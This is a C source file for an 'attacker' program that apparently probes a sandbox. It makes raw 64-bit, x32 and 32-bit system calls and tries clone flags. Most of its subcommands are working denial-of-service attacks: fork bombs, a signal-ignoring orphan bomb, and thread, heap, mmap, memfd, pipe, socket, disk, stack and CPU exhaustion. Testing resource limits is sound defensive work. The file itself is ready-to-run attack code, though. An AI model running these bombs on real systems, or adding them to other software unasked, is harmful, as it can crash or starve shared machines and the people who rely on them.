/* Attacks that need machine code or speed. Usage: attacker WHAT [ARGUMENT...] */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define X32 0x40000000L
#define MIB (1L << 20)

static const char *error_name(int number)
{
	const char *name = strerrorname_np(number);
	return name ? name : "?";
}

/* The 32-bit entry; its arguments are zero. The result is -errno. */
static long i386(long number)
{
	long result;
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(0), "c"(0), "d"(0), "S"(0), "D"(0)
			 : "memory", "r8", "r9", "r10", "r11");
	return result;
}

static long native(long number)
{
	long result = syscall(number, 0L, 0L, 0L, 0L, 0L, 0L);
	return result == -1 ? -errno : result;
}

static long x32(long number)
{
	return native(number | X32);
}

/* Makes each call in a child of its own; prints "NUMBER OUTCOME" for each. */
static int each(long (*entry)(long), int count, char **numbers)
{
	for (int i = 0; i < count; i++) {
		int channel[2];
		if (pipe(channel))
			return 2;
		pid_t child = fork();
		if (child < 0)
			return 3;
		if (child == 0) {
			alarm(30);
			long result = entry(atol(numbers[i]));
			if (write(channel[1], &result, sizeof result) < 0)
				_exit(1);
			_exit(0);
		}
		close(channel[1]);
		int status;
		waitpid(child, &status, 0);
		long result;
		if (WIFSIGNALED(status))
			printf("%s signal %d\n", numbers[i], WTERMSIG(status));
		else if (read(channel[0], &result, sizeof result) != sizeof result)
			printf("%s nothing\n", numbers[i]);
		else if (result < 0 && result > -4096)
			printf("%s %s\n", numbers[i], error_name(-result));
		else
			printf("%s done\n", numbers[i]);
		close(channel[0]);
	}
	return 0;
}

/* One raw call in this very process: NUMBER A B C D E F. */
static int one(int count, char **words)
{
	long a[7] = {0};
	for (int i = 0; i < count && i < 7; i++)
		a[i] = strtoul(words[i], NULL, 0);
	long result = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
	printf("%s\n", result == -1 ? error_name(errno) : "done");
	return 0;
}

/* Each clone(2) flag in turn: "FLAGS OUTCOME". A child that comes to be ends at once. */
static int clones(int count, char **flags)
{
	for (int i = 0; i < count; i++) {
		long result = syscall(SYS_clone, strtoul(flags[i], NULL, 0) | SIGCHLD, 0, 0, 0, 0);
		if (result == 0)
			_exit(0);
		printf("%s %s\n", flags[i], result < 0 ? error_name(errno) : "done");
		fflush(stdout);
	}
	return 0;
}

static void *sleeps(void *nothing)
{
	pause();
	return nothing;
}

static int thread_bomb(void)
{
	pthread_attr_t small;
	pthread_attr_init(&small);
	pthread_attr_setstacksize(&small, 64 << 10);
	for (;;) {
		pthread_t thread;
		if (pthread_create(&thread, &small, sleeps, NULL))
			sched_yield();
	}
}

static int fork_bomb(int with_setsid)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		if (fork() == 0 && with_setsid)
			setsid();
	}
}

/* A child that doubles itself, ignores what it can and outlives its parent. */
static int orphan_bomb(void)
{
	for (int i = 1; i < 65; i++)
		signal(i, SIG_IGN);
	for (;;) {
		if (fork() > 0)
			_exit(0);
		setsid();
	}
}

static int heap_bomb(void)
{
	for (;;) {
		char *block = malloc(MIB);
		if (block)
			memset(block, 1, MIB);
	}
}

static int mmap_bomb(void)
{
	for (;;) {
		char *block = mmap(NULL, MIB, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
		if (block != MAP_FAILED)
			memset(block, 1, MIB);
	}
}

static int shared_bomb(void)
{
	for (;;) {
		char *block = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
		if (block != MAP_FAILED)
			memset(block, 1, MIB);
	}
}

static int __attribute__((noinline)) deeper(volatile char *above)
{
	volatile char block[64 << 10];
	memset((char *)block, above[0] + 1, sizeof block);
	return deeper(block) + block[1];
}

static int memfd_bomb(void)
{
	static char block[MIB];
	memset(block, 1, sizeof block);
	for (;;) {
		int fd = memfd_create("bomb", 0);
		for (int i = 0; i < 16; i++)
			if (write(fd, block, sizeof block) < 0)
				break;
	}
}

static int pipe_bomb(void)
{
	static char block[64 << 10];
	for (;;) {
		int ends[2];
		if (pipe2(ends, O_NONBLOCK)) {
			if (fork() == 0) /* a fresh descriptor table */
				close_range(3, ~0U, 0);
			continue;
		}
		fcntl(ends[1], F_SETPIPE_SZ, MIB);
		while (write(ends[1], block, sizeof block) > 0)
			;
	}
}

static int socket_bomb(int family, int type)
{
	static char block[32 << 10];
	for (;;) {
		int ends[2];
		int size = 64 << 20;
		if (socketpair(family, type | SOCK_NONBLOCK, 0, ends)) {
			if (fork() == 0)
				close_range(3, ~0U, 0);
			continue;
		}
		setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
		setsockopt(ends[1], SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
		while (send(ends[0], block, sizeof block, MSG_DONTWAIT) > 0)
			;
	}
}

/* Connected pairs over loopback, their buffers filled. */
static int loopback_bomb(int type)
{
	static char block[32 << 10];
	for (;;) {
		struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
		socklen_t length = sizeof address;
		int size = 64 << 20;
		int to = socket(AF_INET, type, 0);
		int from = socket(AF_INET, type | SOCK_NONBLOCK, 0);
		if (to < 0 || from < 0) {
			if (fork() == 0)
				close_range(3, ~0U, 0);
			continue;
		}
		setsockopt(from, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
		setsockopt(to, SOL_SOCKET, SO_RCVBUF, &size, sizeof size);
		if (bind(to, (struct sockaddr *)&address, sizeof address) ||
		    getsockname(to, (struct sockaddr *)&address, &length))
			return 3;
		if (type == SOCK_STREAM)
			listen(to, 1);
		connect(from, (struct sockaddr *)&address, length);
		if (type == SOCK_STREAM) {
			int accepted = accept(to, NULL, NULL);
			close(to);
			if (accepted < 0)
				close(from);
		}
		for (int i = 0; i < 4096 && send(from, block, sizeof block, MSG_DONTWAIT) > 0; i++)
			;
	}
}

static int file_bomb(const char *folder)
{
	static char block[MIB];
	memset(block, 1, sizeof block);
	if (chdir(folder))
		return 1;
	int fd = open("bomb", O_WRONLY | O_CREAT | O_TRUNC, 0600);
	while (write(fd, block, sizeof block) > 0)
		;
	printf("%s\n", error_name(errno));
	return 0;
}

/* Empty files until the first error: "COUNT ERRNO". */
static int empty_files(const char *folder)
{
	char name[32];
	if (chdir(folder))
		return 1;
	for (int i = 0;; i++) {
		snprintf(name, sizeof name, "%d", i);
		int fd = open(name, O_WRONLY | O_CREAT | O_EXCL, 0600);
		if (fd < 0) {
			printf("%d %s\n", i, error_name(errno));
			return 0;
		}
		close(fd);
	}
}

static int deep_folders(void)
{
	for (int i = 0;; i++) {
		if (mkdir("d", 0700) || chdir("d")) {
			printf("%d %s\n", i, error_name(errno));
			return 0;
		}
	}
}

static int flood(int fd)
{
	static char block[64 << 10];
	memset(block, 'x', sizeof block);
	for (;;)
		if (write(fd, block, sizeof block) < 0)
			_exit(1);
}

static int spin(void)
{
	for (volatile unsigned long i = 0;; i++)
		;
}

int main(int count, char **words)
{
	const char *what = count > 1 ? words[1] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(what, "hello"))
		return puts("hello") < 0;
	if (!strcmp(what, "native"))
		return each(native, count - 2, words + 2);
	if (!strcmp(what, "x32"))
		return each(x32, count - 2, words + 2);
	if (!strcmp(what, "i386"))
		return each(i386, count - 2, words + 2);
	if (!strcmp(what, "one"))
		return one(count - 2, words + 2);
	if (!strcmp(what, "clones"))
		return clones(count - 2, words + 2);
	if (!strcmp(what, "threads"))
		return thread_bomb();
	if (!strcmp(what, "fork"))
		return fork_bomb(0);
	if (!strcmp(what, "setsid"))
		return fork_bomb(1);
	if (!strcmp(what, "orphans"))
		return orphan_bomb();
	if (!strcmp(what, "heap"))
		return heap_bomb();
	if (!strcmp(what, "mmap"))
		return mmap_bomb();
	if (!strcmp(what, "shared"))
		return shared_bomb();
	if (!strcmp(what, "stack"))
		return deeper("");
	if (!strcmp(what, "memfd"))
		return memfd_bomb();
	if (!strcmp(what, "pipes"))
		return pipe_bomb();
	if (!strcmp(what, "unix-stream"))
		return socket_bomb(AF_UNIX, SOCK_STREAM);
	if (!strcmp(what, "unix-datagram"))
		return socket_bomb(AF_UNIX, SOCK_DGRAM);
	if (!strcmp(what, "tcp"))
		return loopback_bomb(SOCK_STREAM);
	if (!strcmp(what, "udp"))
		return loopback_bomb(SOCK_DGRAM);
	if (!strcmp(what, "file"))
		return file_bomb(words[2]);
	if (!strcmp(what, "empty-files"))
		return empty_files(words[2]);
	if (!strcmp(what, "deep-folders"))
		return deep_folders();
	if (!strcmp(what, "flood"))
		return flood(atoi(words[2]));
	if (!strcmp(what, "flood-both")) {
		if (fork() == 0)
			return flood(2);
		return flood(1);
	}
	if (!strcmp(what, "spin"))
		return spin();
	fprintf(stderr, "unknown: %s\n", what);
	return 64;
}
